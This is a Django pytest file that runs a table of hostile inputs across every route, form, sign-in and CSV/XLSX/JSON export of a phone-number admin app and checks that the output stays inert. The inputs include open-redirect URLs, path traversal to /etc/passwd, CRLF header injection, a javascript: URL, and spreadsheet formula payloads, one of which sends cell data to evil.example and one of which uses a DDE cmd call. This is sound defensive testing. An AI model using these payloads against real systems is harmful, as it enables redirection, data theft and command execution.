"""One table of hostile texts, run over every address there is: from Quo, from the address bar and from forms.

The addresses come from the URL configuration itself, so that a new page is among them by being there.
"""

import json
from collections.abc import Iterator
from io import BytesIO
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from django.core.cache import cache
from django.db import transaction
from django.test import Client, override_settings
from openpyxl import load_workbook
from selectolax.lexbor import LexborHTMLParser

from accounts.models import User
from accounts.roles import Role
from numbers.models import PhoneNumber, Teammate
from numbers.vocabulary.links import number_url, teammate_url
from tests.support.addresses import APP, NUMBER, PARTS, TEAMMATE, filled, routes
from tests.support.exported_files import starts_a_formula, table_of
from tests.support.hostile import HOSTILE, everywhere, is_harmless
from tests.support.pages import HTMX, Office, of_role, remember
from tests.support.quo_answers import number, user

ADDRESSES = {
    "another site": "//evil.example/",
    "another site, with a name": "https://testserver@evil.example/",
    "another site, turned": "/\\evil.example",
    "a script": "javascript:alert(1)//",
    "a path up": "../../../../etc/passwd",
    "a path up, encoded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "a header": "x\r\nX-Evil: 1\r\nSet-Cookie: evil=1\r\n\r\n<b data-evil>",
    "a header, encoded": "x%0d%0aX-Evil:%201",
}
FORMULAS = {
    "a formula": '=HYPERLINK("https://evil.example/?"&A1,"Press here")',
    "a formula, hidden": "\u200b\t=cmd|' /C calc'!A0",
    "a formula, wide": "＝1+1",
    "a plus": "+1-2",
    "an at": "@SUM(A1)",
}
TEXTS = HOSTILE | ADDRESSES | FORMULAS | {"letters alike": "аdmin@ехample.соm", "much": "M" * 1_000_000}
# These harm by their length, by being empty, or by ending a line too soon, so each is tried by itself.
ALONE = ("nul", "empty", "blank", "much", "a header", "a header, encoded")
# The others stand in one text, except addresses of other sites, which lead there only from the start of a text.
ORDINARY = " ".join(text for name, text in TEXTS.items() if name not in {*ALONE, *ADDRESSES, "long", "long words"})
ASKED = {
    "ordinary": (ORDINARY,),
    "addresses": tuple(text for name, text in ADDRESSES.items() if name not in ALONE),
    **{name: (TEXTS[name],) for name in ALONE},
}

NAMES = (
    *("q", "user", "who", "sort", "page", "next", "raw", "by", "group", "kind", "country", "porting", "forward"),
    *("unassigned", "calling_us", "messaging_intl", "event", "version", "number", "code", "state", "error", "role"),
)
FIELDS = (
    *("next", "number", "user", "version", "name", "query", "column", "theme", "login", "password", "email", "role"),
    *("password1", "password2", "oldpassword", "code", "credential", "action", "id", "pk"),
)
LEAVES = {"/accounts/logout/", "/admin/logout/"}


@pytest.fixture
def boss(db: None) -> Iterator[Office]:
    """An administrator, to whom everything is shown, in front of a demo that does not run."""
    with override_settings(DEBUG=False, DEMO=True):
        yield of_role(Role.ADMINISTRATOR, "boss@example.com")


every_text = pytest.mark.parametrize("texts", ASKED.values(), ids=ASKED)


def addresses(number_id: str, user_id: str, part: str) -> list[str]:
    """Every address, of that number and teammate, with `part` where another part of it may vary."""
    pages = {NUMBER: number_url(number_id)[1:], TEAMMATE: teammate_url(user_id)[1:], APP: PARTS[APP]}
    parts = {**dict.fromkeys(PARTS, part), "<path:object_id>": part, "<id>": part, **pages}
    paths = {filled(route, parts) for route in routes()}
    # Django's own, of which no page here makes use.
    others = ("/admin/r/", "/admin/autocomplete/")
    return sorted(path for path in paths if path not in LEAVES and not path.startswith(others))


def holds(response: Any, path: str) -> bytes:
    """Hold an answer to what holds of every answer to anybody, whatever was asked; return its content."""
    assert response.status_code < 500, path
    assert "X-Evil" not in response.headers
    assert "evil" not in response.cookies
    for name in ("Location", "HX-Redirect", "HX-Push-Url", "HX-Replace-Url"):
        address = urlsplit(response.headers.get(name, ""))
        assert address.netloc in {"", "testserver"}, f"{path} leads to {response.headers[name]}"
        assert address.scheme in {"", "http"}
    content: bytes = response.getvalue()
    if response.headers.get("Content-Type", "").startswith("text/html"):
        is_harmless(LexborHTMLParser(content.decode()))
        assert b"Traceback" not in content
    return content


def asked(client: Client, path: str, **more: Any) -> bytes:
    with transaction.atomic():
        content = holds(Client.get(client, path, **more), path)
        transaction.set_rollback(True)
    return content


@pytest.fixture
def heard(boss: Office) -> None:
    """Everything that is hostile was once in every field of Quo's answer."""
    much = number("PN1", name=TEXTS["much"], users=[user("US1", email=TEXTS["much"])])
    remember(much, *(everywhere(text) for text in TEXTS.values() if text != TEXTS["much"]))


def test_what_quo_sends_is_text_on_every_page(boss: Office, heard: None) -> None:
    numbers = PhoneNumber.objects.values_list("quo_id", flat=True)
    teammates = Teammate.objects.values_list("quo_id", flat=True)
    assert len(numbers) == len(teammates) == len(TEXTS)

    for path in {*addresses("PN1", "US1", "1"), *map(number_url, numbers), *map(teammate_url, teammates)}:
        asked(boss, path)


def test_what_quo_sends_is_text_in_every_file(boss: Office) -> None:
    records = [everywhere(text) for text in TEXTS.values() if text != TEXTS["much"]]
    remember(*records)

    for name in ("numbers", "teammates", "audit"):
        rows = table_of(asked(boss, f"/{name}.csv"))
        assert len(rows) >= len(records)
        assert [cell for row in rows for cell in row.values() if starts_a_formula(cell)] == []
        book = load_workbook(BytesIO(asked(boss, f"/{name}.xlsx")))
        assert {cell.data_type for sheet in book for row in sheet for cell in row} <= {"s", "n", "inlineStr"}
        assert len(json.loads(asked(boss, f"/{name}.json"))["data"]) >= len(records)


LINE = 5_000  # characters: the web server takes no longer first line of a request


@every_text
def test_what_an_address_says_is_text_on_every_page(boss: Office, texts: tuple[str, ...]) -> None:
    remember(number("PN1", users=[user("US1")]))
    for place, text in enumerate(texts):
        said = text[:LINE]
        query = {**dict.fromkeys(NAMES, said), said: "1"}
        shown = {**HTMX, "HX-Current-URL": said.replace("\r", "").replace("\n", "")}
        for path in addresses(f"PN{said}", f"US{said}", quote(said, safe=""))[place :: len(texts)]:
            if not path.startswith(("/admin/", "/accounts/")):  # which read nothing of it but `next`
                asked(boss, path, data=query)
                asked(boss, path, data=query, headers=shown)


@every_text
def test_what_an_address_says_is_text_to_strangers(db: None, texts: tuple[str, ...]) -> None:
    for text in texts:
        said = text[:LINE]
        for place, path in enumerate(addresses(f"PN{said}", f"US{said}", quote(said, safe=""))):
            if place % 6 == 0 or path.startswith("/accounts/"):  # elsewhere they are led to sign in, all alike
                asked(Client(), path, data={"next": said})


@every_text
def test_what_a_form_says_is_text(boss: Office, texts: tuple[str, ...]) -> None:
    remember(number("PN1", users=[user("US1")]))
    boss_key = User.objects.get().pk

    for path in addresses("PN1", "US1", str(boss_key)):
        for text in texts:
            cache.clear()
            with transaction.atomic():
                holds(boss.post(path, dict.fromkeys(FIELDS, text)), path)
                transaction.set_rollback(True)


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_what_signing_in_says_is_text(db: None, text: str) -> None:
    cache.clear()
    User.objects.create_user("ann@example.com", "a long enough secret")
    secret = {"login": "ann@example.com", "password": "a long enough secret"}

    holds(Client().post("/accounts/login/", {"login": text, "password": text, "next": text}), "failed")
    holds(Client().post("/accounts/login/", {**secret, "next": text}), "signed in")
